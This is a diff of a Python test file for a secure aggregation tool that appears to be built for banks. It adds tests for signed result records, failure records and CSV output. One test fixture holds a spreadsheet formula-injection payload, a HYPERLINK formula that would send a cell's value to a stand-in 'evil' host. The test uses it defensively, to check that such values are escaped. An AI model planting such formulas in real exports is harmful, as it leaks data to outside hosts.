@@ -28,8 +28,12 @@ from secagg.jobs.disclosure import disclosures
 from secagg.jobs.forecast import forecast
 from secagg.jobs.job import Job, Member, Window
 from secagg.jobs.local import free_addresses
+from secagg.jobs.output import Output
 from secagg.jobs.patterns import PATTERNS
+from secagg.jobs.record import Result, write_record
 from secagg.jobs.run import PHASES, Part, Progress, run_job
+from secagg.jobs.signed import file_digest, read_record, verify_record
+from secagg.jobs.spreadsheet import text_of
 from secagg.network.identity import Identity, create_identity
 from secagg.network.simulated import LAN, WAN, Outcome, simulate
 from secagg.network.tcp import Timeouts
@@ -242,8 +246,11 @@ def test_a_run_over_tls_leaves_results_and_records(tmp_path: Path) -> None:
     assert found > 3
 
     for name in job.roster:
-        table, record_file = results[name].write(tmp_path)
-        record = json.loads(record_file.read_text())
+        output = Output.probe(tmp_path, me=name, job="test")
+        table, record_file = results[name].write(output, identities[name])
+        record = read_record(record_file)
+        assert verify_record(record, identities[name].certificate)
+        assert (record["outcome"], record["reached"], record["error"]) == ("complete", PHASES[-1], None)
         assert record_file.name == f"{name}.test.json"
         assert record["digest"] == job.digest.hex()
         assert record["session"] == json.loads(json.dumps(results["bank_x"].record))["session"]
@@ -261,6 +268,7 @@ def test_a_run_over_tls_leaves_results_and_records(tmp_path: Path) -> None:
             continue
         assert table is not None
         assert stat.S_IMODE(table.stat().st_mode) == 0o600
+        assert record["result"] == {"file": table.name, "sha256": file_digest(table)}
         assert record["flagged"] == len(results[name].rows)
         with table.open(newline="") as file:
             head, *lines = list(csv.reader(file))
@@ -284,23 +292,15 @@ def test_a_run_over_tls_leaves_results_and_records(tmp_path: Path) -> None:
     assert seen[0].waiting_for == ("bank_b", "bank_x")
 
 
-def test_writing_again_replaces_whole_files(tmp_path: Path) -> None:
-    job, _ = settle(make_job("structuring"))
-    from secagg.jobs.record import Result
-
-    for rows in ([("a", 2, 150_000), ("b", 3, 7)], [("c", 1, 10**11)]):
-        Result("bank_a", job, rows, {}).write(tmp_path / "new")
-    assert (tmp_path / "new/bank_a.test.csv").read_text() == "customer,deposits,total\nc,1,1000000000.00\n"
-    assert len(list((tmp_path / "new").iterdir())) == 2
-
-
-def test_a_directory_that_cannot_be_written_to_is_named(tmp_path: Path) -> None:
-    from secagg.jobs.record import Result
-
-    (tmp_path / "file").touch()
-    job, _ = settle(make_job("structuring"))
-    with pytest.raises(UsageError, match=r"cannot write the result to .*file"):
-        Result("bank_a", job, [], {}).write(tmp_path / "file")
+def test_identifiers_that_are_formulas_are_written_so_that_no_spreadsheet_runs_them(tmp_path: Path) -> None:
+    job, identities = settle(make_job("structuring"))
+    rows = [('=HYPERLINK("http://evil/?"&B2,"open")', 2, 150_000), ("-5", 3, 7)]
+    output = Output.probe(tmp_path, me="bank_a", job="test")
+    table, _ = Result("bank_a", job, rows, {}).write(output, identities["bank_a"])
+    assert table is not None
+    lines = list(csv.reader(table.read_text().splitlines()))
+    assert lines[1:] == [["'" + rows[0][0], "2", "1500.00"], ["-5", "3", "0.07"]]
+    assert text_of(lines[1][0]) == rows[0][0]
 
 
 def refused(
@@ -357,10 +357,52 @@ def test_a_party_that_does_not_come_is_named() -> None:
     job, identities = settle(make_job("collectors"))
     job = replace(job, timeouts=Timeouts(connect_s=1, silence_s=5, message_s=5))
 
+    records: dict[str, dict[str, Any]] = {}
+
     def take_part(name: str) -> Any:
-        return run_job(job, me=name, identity=identities[name], read=lambda: pytest.fail("read"))
+        def failed(record: dict[str, Any]) -> None:
+            records[name] = record
+
+        identity = identities[name]
+        return run_job(job, me=name, identity=identity, read=lambda: pytest.fail("read"), on_failure=failed)
 
     errors = run_all({name: lambda name=name: take_part(name) for name in ("bank_a", "bank_b")})
-    for error in errors.values():
+    for name, error in errors.items():
         assert isinstance(error, PeerMissingError)
         assert "bank_c" in str(error)
+        record = records[name]
+        assert (record["outcome"], record["reached"], record["ledger"]) == ("failed", "connect", None)
+        assert record["error"]["message"] == str(error)
+        assert record["error"]["named"] in ("bank_c", "bank_a", "bank_b")
+    assert "bank_c" in {record["error"]["named"] for record in records.values()}
+
+
+def test_a_run_that_fails_leaves_a_record_of_how_far_it_came_and_who_is_named(tmp_path: Path) -> None:
+    job, identities = settle(make_job("structuring", "two banks and an outsider compute"))
+    tables = make_tables(job, (20, 20))
+    records: dict[str, dict[str, Any]] = {}
+
+    def read(name: str) -> Columns:
+        if name == "bank_b":
+            raise DataError("secret.csv:7: amount is negative")
+        return tables[name]
+
+    def take_part(name: str) -> Any:
+        def failed(record: dict[str, Any]) -> None:
+            records[name] = record
+
+        own = (lambda: read(name)) if name in tables else None
+        return run_job(job, me=name, identity=identities[name], read=own, on_failure=failed)
+
+    run_all({name: lambda name=name: take_part(name) for name in job.roster})
+    assert records.keys() == set(job.roster)
+    for name, record in records.items():
+        assert (record["outcome"], record["reached"], record["opened"]) == ("failed", "read", None)
+        assert record["error"]["named"] == "bank_b"
+        assert record["digest"] == job.digest.hex()
+        assert record["ledger"] is not None
+        assert ("secret" in json.dumps(record)) == (name == "bank_b")
+        output = Output.probe(tmp_path, me=name, job="test")
+        path = write_record(record, output, identities[name], suffix=output.failed_suffix())
+        assert verify_record(read_record(path), identities[name].certificate)
+    assert len({record["session"] for record in records.values()}) == 1
